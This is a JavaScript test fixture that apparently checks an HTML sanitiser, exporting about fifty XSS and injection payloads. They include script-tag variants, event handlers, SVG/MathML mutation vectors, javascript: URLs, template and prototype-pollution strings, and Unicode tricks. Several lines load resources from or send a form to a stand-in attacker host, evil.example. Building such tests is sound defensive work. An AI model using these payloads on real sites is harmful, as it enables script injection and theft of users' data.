// Fifty texts that become more than text where somebody is careless. `pwned` is what they would leave behind; none of them may.

const BAD = "window.pwned=1";
const AWAY = "https://evil.example";

export const PAYLOADS = [
  // script elements, whole, broken and in disguise
  `<script>${BAD}</script>`,
  `"><script>${BAD}</script>`,
  `</textarea><script>${BAD}</script>`,
  `</title></style></noscript><script>${BAD}</script>`,
  `<scr<script>ipt>${BAD}</scr</script>ipt>`,
  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
  `<script type=module>import "${AWAY}/m.js"</script>`,
  `<!--><script>${BAD}</script-->`,
  `<![CDATA[<script>${BAD}</script>]]>`,
  `</script><script>${BAD}</script>`,
  // handlers of events
  `<img src=x onerror=${BAD}>`,
  `<img src=x onerror="alert(1)" />`,
  `"><img src=/ onerror=${BAD} x="`,
  `' autofocus onfocus=${BAD} x='`,
  `<body onload=${BAD}>`,
  `<details open ontoggle=${BAD}>x</details>`,
  `<input autofocus onfocus=${BAD}>`,
  `<video><source onerror=${BAD}></video>`,
  `<audio src=x onerror=${BAD}>`,
  `<marquee onstart=${BAD}>x</marquee>`,
  `<div onpointerenter=${BAD} style="position:fixed;inset:0">x</div>`,
  `<select onfocus=${BAD} autofocus><option>x</select>`,
  // svg and math
  `<svg onload=${BAD}>`,
  `<svg><script>${BAD}</script></svg>`,
  `<svg><animate onbegin=${BAD} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${BAD}"><text y=20>x</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${BAD}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${BAD}'/>#x"/></svg>`,
  // addresses
  `<a href="javascript:${BAD}">press me</a>`,
  `javascript:${BAD}`,
  `JaVaScRiPt:${BAD}//http://ok.example`,
  `data:text/html,<script>${BAD}</script>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${AWAY}/o.swf"></object><embed src="${AWAY}/e">`,
  `<form action="${AWAY}/steal"><button formaction="javascript:${BAD}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<base href="${AWAY}/"><link rel=stylesheet href="${AWAY}/s.css">`,
  `[press me](javascript:${BAD}) ![x](${AWAY}/i.png)`,
  // templates of other systems and of this one
  `{{constructor.constructor("${BAD}")()}}`,
  `\${${BAD}} #{${BAD}} <%= ${BAD} %>`,
  `{{7*7}} {{$user.password}} {% raw %}`,
  `__proto__[pwned]=1 constructor.prototype.pwned`,
  // styles
  `<style>@import "${AWAY}/s.css"; body{display:none}</style>`,
  `<p style="background:url(${AWAY}/b.png);position:fixed;inset:0">x</p>`,
  `x;} body{background:url("${AWAY}/c.png")} /*`,
  // letters that are read as others
  `＜script＞${BAD}＜/script＞`,
  `\u202Egnp.exe\u202C <img src=x onerror=${BAD}>`,
  `&lt;img src=x onerror=${BAD}&gt; &#60;script&#62; \\u003cscript\\u003e`,
  `<\u200Bscript>${BAD}</\u200Bscript>\u2028<img/src=\`x\`/onerror=${BAD}>\uFEFF`,
];
